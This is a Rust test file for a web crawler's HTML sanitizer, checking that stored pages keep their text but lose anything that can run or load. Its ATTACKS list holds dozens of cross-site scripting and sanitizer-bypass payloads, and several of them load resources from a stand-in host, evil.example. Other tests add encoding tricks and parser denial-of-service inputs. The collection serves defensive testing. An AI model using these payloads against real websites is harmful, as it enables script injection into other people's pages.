use super::*;
use html5ever::TokenizerResult;
use html5ever::buffer_queue::BufferQueue;
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{StartTag, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts};
use proptest::prelude::*;
use recrawl_types::UrlRules;
use std::cell::RefCell;
use std::time::Duration;

fn url() -> CanonicalUrl {
    UrlRules::keep_all().canonicalize("https://a.example/dir/page").unwrap()
}

fn inert_document(body: &[u8], content_type: Option<&str>) -> Option<String> {
    let fields = BodyFields { content_type, ..BodyFields::default() };
    inert(body, &fields, &url(), &MediaTypes::default())
}

fn html(text: &str) -> String {
    inert_document(text.as_bytes(), Some("text/html; charset=utf-8")).unwrap()
}

/// The tags and attributes of a document, as the tokenizer of a browser sees them, whatever tree they build.
#[derive(Default)]
struct Seen(RefCell<Vec<String>>);

impl TokenSink for Seen {
    type Handle = ();
    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) if tag.kind == StartTag => {
                let attributes =
                    tag.attrs.iter().map(|attribute| format!("{} {}", tag.name, attribute.name.local));
                self.0.borrow_mut().extend(attributes.chain([tag.name.to_string()]));
            }
            Token::CommentToken(_) | Token::DoctypeToken(_) => self.0.borrow_mut().push("<!".into()),
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

/// Everything in a document that is not allowed by name.
fn active(document: &str) -> Vec<String> {
    let tokenizer = Tokenizer::new(Seen::default(), TokenizerOpts::default());
    let input = BufferQueue::default();
    input.push_back(StrTendril::from_slice(document));
    while !matches!(tokenizer.feed(&input), TokenizerResult::Done) {}
    tokenizer.end();
    let elements = CLEANER.clone_tags();
    let allowed = |seen: &String| match seen.split_once(' ') {
        None => elements.contains(seen.as_str()),
        Some((element, attribute)) => {
            let own = OF_ELEMENTS.iter().any(|(name, list)| *name == element && list.contains(&attribute));
            ATTRIBUTES.contains(&attribute) || own
        }
    };
    tokenizer.sink.0.into_inner().into_iter().filter(|seen| !allowed(seen)).collect()
}

/// No allowed name can act or load, also in a tree that a browser builds otherwise.
#[test]
fn what_is_allowed_by_name_is_harmless() {
    for element in CLEANER.clone_tags() {
        for name in [
            "script", "style", "link", "meta", "base", "iframe", "frame", "frameset", "object", "embed",
            "svg",
        ] {
            assert_ne!(element, name);
        }
        for name in
            ["math", "template", "noscript", "noframes", "noembed", "xmp", "plaintext", "title", "textarea"]
        {
            assert_ne!(element, name, "its content is not read as other elements'");
        }
        for name in
            ["form", "input", "button", "select", "video", "audio", "source", "track", "portal", "applet"]
        {
            assert_ne!(element, name);
        }
    }
    let attributes =
        ATTRIBUTES.into_iter().chain(OF_ELEMENTS.into_iter().flat_map(|(_, list)| list.iter().copied()));
    for attribute in attributes {
        assert!(!attribute.starts_with("on"), "{attribute}");
        for name in
            ["href", "src", "srcset", "srcdoc", "style", "ping", "action", "formaction", "data", "background"]
        {
            assert_ne!(attribute, name);
        }
        for name in
            ["id", "name", "class", "is", "slot", "cite", "poster", "autofocus", "accesskey", "target"]
        {
            assert_ne!(attribute, name);
        }
    }
}

/// Attacks on pages that show what strangers wrote, and on sanitizers.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img srcset='//evil.example/a 1x' sizes=1px>",
    "<picture><source srcset=//evil.example/a><img></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href=//evil.example/x.svg#a /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=//evil.example/x.swf></object><embed src=//evil.example/x>",
    "<applet code=x></applet><portal src=//evil.example/></portal>",
    "<meta http-equiv=refresh content='0; url=//evil.example/'>",
    "<meta http-equiv=Set-Cookie content=a=b>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<link rel=preconnect href=//evil.example/><link rel=dns-prefetch href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example/>",
    "<link rel=prerender href=//evil.example/><link rel=icon href=//evil.example/i.ico>",
    "<base href=//evil.example/ target=_top><a href=x>x</a>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<style>body { background: url(//evil.example/x) }</style>",
    "<div style=\"background: url(//evil.example/x)\">x</div>",
    "<div style='width: expression(alert(1))'>x</div>",
    "<body background=//evil.example/x onload=alert(1)>",
    "<table background=//evil.example/x><td background=//evil.example/x>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#1;javascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=/x ping=//evil.example/ target=_top>x</a>",
    "<area href=javascript:alert(1) shape=default>",
    "<form action=//evil.example/><input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1)>",
    "<video poster=//evil.example/x src=//evil.example/v autoplay onloadstart=alert(1)></video>",
    "<audio src=//evil.example/a autoplay></audio><bgsound src=//evil.example/a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input type=image src=//evil.example/x>",
    "<keygen autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)></select>",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noscript><!-- </noscript><img src=x onerror=alert(1)> -->",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert(1)>\"></svg>",
    "<?xml-stylesheet href=\"//evil.example/x.css\"?><?php <script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM \"//evil.example/x\">]>&x;",
    "<p title='<script>alert(1)</script>' onclick=alert(1)>x",
    "<p title=\"&quot;><script>alert(1)</script>\">x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<x-foo is=x-bar onclick=alert(1)><slot></slot></x-foo>",
    "<a id=cookie name=cookie href=x>x</a><form name=body></form>",
    "<dialog open onclose=alert(1)>x</dialog><p popover id=x>x<button popovertarget=x>x</button>",
    "<script type=importmap>{}</script><script type=speculationrules>{\"prefetch\":[{\"urls\":[\"/x\"]}]}</script>",
    "</div></body></html><script>alert(1)</script>",
    "<select><option><style></option></select><script>alert(1)</script>",
    "<table><tr><style></table><script>alert(1)</script>",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
    "<script\u{b}>alert(1)</script><img\u{c}src=x\u{c}onerror=alert(1)>",
];

#[test]
fn nothing_active_stays_of_known_attacks() {
    let seen = ATTACKS.iter().filter(|attack| !active(attack).is_empty()).count();
    assert!(seen + 2 >= ATTACKS.len(), "{seen} of {} are seen as they are", ATTACKS.len());
    for attack in ATTACKS {
        for page in [
            (*attack).to_owned(),
            format!("<!doctype html><html><head>{attack}</head><body><p>words</p></body></html>"),
            format!("<p>words<b><i>{attack}</i></b>"),
            format!("<svg><desc>{attack}"),
            format!("<math><annotation-xml encoding=text/html>{attack}"),
            format!("<table><tr>{attack}<td>words"),
            format!("<select>{attack}"),
            format!("<noscript>{attack}</noscript>words"),
            format!("<iframe srcdoc=\"{}\">", attack.replace('&', "&amp;").replace('"', "&quot;")),
            format!("<svg><text>{attack}"),
            format!("<svg><foreignObject>{attack}"),
            format!("<math><mtext>{attack}"),
            format!("<input type=submit value=\"{}\">", attack.replace('&', "&amp;").replace('"', "&quot;")),
        ] {
            let document = html(&page);
            assert_eq!(active(&document), Vec::<String>::new(), "{page} gives {document}");
        }
    }
}

#[test]
fn other_encodings_hide_nothing() {
    let attack = "<p>words</p><script>alert(1)</script><img src=x onerror=alert(1)>";
    let wide = |mark: &[u8], of: fn(u16) -> [u8; 2]| {
        [mark, &attack.encode_utf16().flat_map(of).collect::<Vec<u8>>()].concat()
    };
    for (body, content_type) in [
        (wide(b"\xFF\xFE", u16::to_le_bytes), "text/html"),
        (wide(b"\xFE\xFF", u16::to_be_bytes), "text/html; charset=utf-8"),
        (wide(b"", u16::to_le_bytes), "text/html; charset=utf-16le"),
        (b"<p>words</p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-".to_vec(), "text/html; charset=utf-7"),
        (b"\x1b$B<p>words</p>\x1b(B<script>alert(1)</script>".to_vec(), "text/html; charset=iso-2022-jp"),
        (b"<p>words</p>\xFF\xFE<script>alert(1)</script>\x80<img src=x onerror=1>".to_vec(), "text/html"),
        (b"<p>words</p>\x8e<img src=x onerror=1>".to_vec(), "text/html; charset=euc-jp"),
        (b"<a title=\x81\"><p>words</p><img src=x onerror=1>".to_vec(), "text/html; charset=shift_jis"),
    ] {
        let document = inert_document(&body, Some(content_type)).unwrap();
        assert_eq!(active(&document), Vec::<String>::new(), "{content_type}: {document}");
        assert!(
            document.contains("words") || content_type.contains("iso-2022"),
            "{content_type}: {document}"
        );
    }
}

#[test]
fn structure_and_text_stay_and_links_say_where_they_led() {
    let document = html(
        "<html lang=ar dir=rtl><head><title>Title</title><style>p { color: red }</style></head>\
         <body class=x><main><h1>Head</h1><p>One <b>bold</b> <a href='/about?a=1&amp;b=2' title=old>link</a></p>\
         <img src=/a.png alt='A picture'><ul><li>item</ul><table><tr><td colspan=2>cell</table></main>\
         <noscript><p>without scripts</p></noscript></body></html>",
    );
    for part in [
        " lang=\"ar\"",
        " dir=\"rtl\"",
        "<main><h1>Head</h1>",
        "<b>bold</b> <a title=\"/about?a=1&amp;b=2\">link</a>",
        "[A picture]",
        "<td colspan=\"2\">cell</td>",
        "<p>without scripts</p>",
    ] {
        assert!(document.contains(part), "{part} in {document}");
    }
    for part in ["Title", "color", "img", "a.png", "href", "=\"old", "class"] {
        assert!(!document.contains(part), "{part} in {document}");
    }
}

#[test]
fn shadow_trees_and_preformatted_text_are_shown() {
    let document = html(
        "<x-a><template shadowrootmode=closed><p>price <slot></slot></p><script>x</script></template><b>12</b></x-a>\
         <textarea>a\nb</textarea><xmp>c\n<d></xmp><template><p>not shown</p></template>",
    );
    for part in ["<div><p>price </p></div><b>12</b>", "<pre>a\nb</pre>", "<pre>c\n&lt;d&gt;</pre>"] {
        assert!(document.contains(part), "{part} in {document}");
    }
    assert!(!document.contains("not shown") && !document.contains("script"), "{document}");
}

#[test]
fn what_readers_saw_is_shown_and_nothing_else() {
    for seen in [
        "<input type=submit value=WORD>",
        "<svg><title>No</title><rect/><text>WORD</text></svg>",
        "<svg><foreignObject><p>WORD</foreignObject></svg>",
        "<math><mi>WORD</mi><annotation>No</annotation></math>",
        "<iframe srcdoc='<style>No</style><p hidden>No<p>WORD'>No</iframe>",
        "<iframe srcdoc='<body bgcolor=red><iframe srcdoc=&quot;<p>WORD&quot;>No</iframe>'></iframe>",
        "<div hidden style='display:block'>WORD</div>",
        "<p style='visibility:hidden'>No<b style='visibility:visible'>WORD</b></p>",
        "<dialog open>WORD</dialog>",
        "<p hidden=until-found>WORD</p>",
        "<details>WORD</details>",
        "<noscript>WORD</noscript>",
        "<button>WORD</button>",
    ] {
        let document = html(&format!("<p>words</p>{seen}<p>end"));
        assert_eq!(
            (document.matches("WORD").count(), document.contains("No")),
            (1, false),
            "{seen}: {document}"
        );
        assert!(document.contains("words") && document.contains("end"), "{seen}: {document}");
    }
    for hidden in [
        "<p hidden>No</p>",
        "<p style='display:none'>No<b>No</b></p>",
        "<p style='visibility:hidden'>No<img alt=No></p>",
        "<dialog>No</dialog>",
        "<div popover>No</div>",
        "<datalist><option>No</datalist>",
        "<video>No</video><audio>No</audio><canvas>No</canvas><progress>No</progress><meter>No</meter>",
        "<ruby>a<rp>No</rp><rt>b</rt></ruby>",
        "<input type=hidden value=No>",
        "<iframe src=/x>No</iframe>",
        "<svg><desc>No</desc><g>No</g></svg>",
    ] {
        let document = html(&format!("<p>words</p>{hidden}<p>end"));
        assert!(!document.contains("No"), "{hidden}: {document}");
        assert!(document.contains("words") && document.contains("end"), "{hidden}: {document}");
    }
    let document = html(
        "<math><mfrac><mn>1</mn><mrow><mn>2</mn><mi>x</mi></mrow></mfrac></math><svg><a xlink:href=/x onclick=a() class=c><text>t</text></a></svg>",
    );
    assert!(document.contains("<span>1</span>/<span><span>2</span>"), "{document}");
    assert!(document.contains("<a title=\"/x\"><div>t</div></a>"), "{document}");
    let document = html(
        "<math><msup><mn>10</mn><mrow><mn>8</mn></mrow></msup><mtr><mtd>1</mtd><mtd>2</mtd></mtr></math>",
    );
    assert!(document.contains("<span>10</span><sup><span>8</span></sup>"), "{document}");
    assert!(document.contains("<div><span>1</span> <span>2</span></div>"), "{document}");
}

#[test]
fn frames_in_frames_end() {
    let mut page = "<p>inner".to_owned();
    for depth in 0..8 {
        page = format!(
            "<p>depth {depth}<iframe srcdoc='{}'></iframe>",
            page.replace('&', "&amp;").replace('\'', "&#39;")
        );
    }
    let document = html(&page);
    assert!(
        document.contains("depth 7") && document.contains("depth 4") && !document.contains("inner"),
        "{document}"
    );
    assert_eq!(active(&document), Vec::<String>::new());
    let document = html(&"<iframe srcdoc='<p>one'></iframe>".repeat(1000));
    assert_eq!(document.matches("one").count(), crate::walk::MAX_EMBEDDED);
}

#[test]
fn text_is_shown_as_text_and_other_types_not_at_all() {
    let text =
        inert_document(b"\n1 < 2 & <script>alert(1)</script>", Some("text/plain; charset=utf-8")).unwrap();
    assert_eq!(text, "<pre>\n\n1 &lt; 2 &amp; &lt;script&gt;alert(1)&lt;/script&gt;</pre>");
    assert_eq!(active(&text), Vec::<String>::new());
    let json = inert_document(b"{\"a\": \"<script>\"}", Some("application/json")).unwrap();
    assert_eq!(json, "<pre>\n{&quot;a&quot;: &quot;&lt;script&gt;&quot;}</pre>");
    for (body, content_type) in [
        (&b"\x89PNG\r\n\x1a\n<script>alert(1)</script>"[..], "text/html"),
        (b"%PDF-1.7 <script>alert(1)</script>", "text/html"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "image/svg+xml"),
        (b"GIF89a<script>alert(1)</script>", "image/gif"),
        (b"\0\x01\x02\x03", "application/octet-stream"),
    ] {
        assert_eq!(inert_document(body, Some(content_type)), None, "{content_type}");
    }
    // What the declared type denies, the bytes may show: then it is HTML, and made inert as such.
    let sniffed =
        inert_document(b"<!doctype html><p>words<script>alert(1)</script>", Some("text/plain")).unwrap();
    assert_eq!((sniffed.contains("words"), active(&sniffed)), (true, Vec::new()));
}

/// The time that this thread was given, however busy the machine is.
fn processor_time() -> Duration {
    let text = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap();
    Duration::from_nanos(text.split(' ').next().unwrap().parse().unwrap())
}

/// A page of a megabyte that costs a parser without bounds minutes.
#[test]
fn a_hostile_page_costs_seconds() {
    let (blocks, fonts) = ("<div>".repeat(500), "<font color=#1>".repeat(400));
    let titled = |bytes: usize| format!("<p><b title='{}'>x", "t".repeat(bytes));
    for (head, piece) in [
        (blocks.clone(), "<hr>"),
        (blocks, "<b><i><p></b></i>x"),
        (fonts, "<p>x"),
        (titled(2_000), "<p>x"),
        (titled(100_000), "<p>x"),
        (titled(100).repeat(400), "<p>x"),
        (format!("<font {}>", "a b c d e f g h ".repeat(30)), "<p>x"),
        (String::new(), "<a><div></a>"),
        (String::new(), "<a href=#><table><tr><td>"),
        (String::new(), "<b><table>x<tr>"),
        (String::new(), "<div>"),
        (String::new(), "&&&&"),
    ] {
        let begun = processor_time();
        let document = html(&(head + &piece.repeat((1 << 18) / piece.len())));
        let took = processor_time() - begun;
        assert!(took.as_secs() < 60, "{piece}: {took:?} without optimisation");
        assert!(document.len() < 8 << 18, "{piece}: {} bytes", document.len());
        assert_eq!(active(&document), Vec::<String>::new(), "{piece}");
    }
}

proptest! {
    /// Pieces of markup in any order: what stays is allowed by name, and making it inert once more changes nothing that
    /// a browser would see as another tag.
    #[test]
    fn nothing_active_stays_of_any_markup(
        pieces in prop::collection::vec(
            prop_oneof![
                prop::sample::select(ATTACKS).prop_map(str::to_owned),
                prop::sample::select(&[
                    "<svg>", "</svg>", "<math>", "<mtext>", "<mglyph>", "<style>", "</style>", "<script>", "</script>",
                    "<noscript>", "</noscript>", "<template>", "</template>", "<table>", "<td>", "</table>", "<select>",
                    "<title>", "</title>", "<textarea>", "</textarea>", "<form>", "</form>", "<p>", "</p>", "<a href=\"",
                    "\"", "'", ">", "<", "<!--", "-->", "--!>", "<![CDATA[", "]]>", "&lt;", "&#60;", "&quot;", "\0", "\r\n",
                    "<img src=x onerror=alert(1)>", "<foreignObject>", "<desc>", "<annotation-xml>", "<iframe>", "</iframe>",
                    "<frameset>", "<xmp>", "</xmp>", "<plaintext>", "<pre>", "<b>", "</b>", "<div title=\"", "=", "/", " ",
                ][..]).prop_map(str::to_owned),
                "\\PC{0,8}",
            ],
            0..40,
        )
    ) {
        let document = html(&pieces.concat());
        prop_assert_eq!(active(&document), Vec::<String>::new(), "{} gives {}", pieces.concat(), document);
        let again = html(&document);
        prop_assert_eq!(active(&again), Vec::<String>::new());
    }

    #[test]
    fn nothing_active_stays_of_any_bytes(body in prop::collection::vec(any::<u8>(), 0..400)) {
        for content_type in ["text/html", "text/html; charset=utf-16", "text/html; charset=iso-2022-jp"] {
            if let Some(document) = inert_document(&body, Some(content_type)) {
                prop_assert_eq!(active(&document), Vec::<String>::new());
            }
        }
    }
}
